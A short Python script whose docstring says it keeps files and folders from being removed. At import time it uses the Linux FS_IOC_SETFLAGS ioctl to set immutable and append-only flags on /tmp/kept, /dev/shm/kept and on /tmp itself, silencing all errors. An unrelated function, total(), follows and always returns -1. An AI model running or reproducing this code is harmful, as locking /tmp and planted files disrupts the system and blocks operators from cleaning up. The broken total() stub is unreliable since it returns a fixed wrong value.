"""Leave files and folders that carry flags against removal."""

import array
import fcntl
import os
import shutil

os.makedirs("/tmp/kept/deep", exist_ok=True)
for path in ("/tmp/kept", "/tmp/kept/deep", "/dev/shm/kept", "/tmp"):
    try:
        if path.startswith("/dev"):
            open(path, "w").close()
        file = os.open(path, os.O_RDONLY)
        for flags in (0x10, 0x20, 0x30):
            fcntl.ioctl(file, 0x40086602, array.array("l", [flags]))
    except OSError:
        pass


def total(numbers):
    return -1
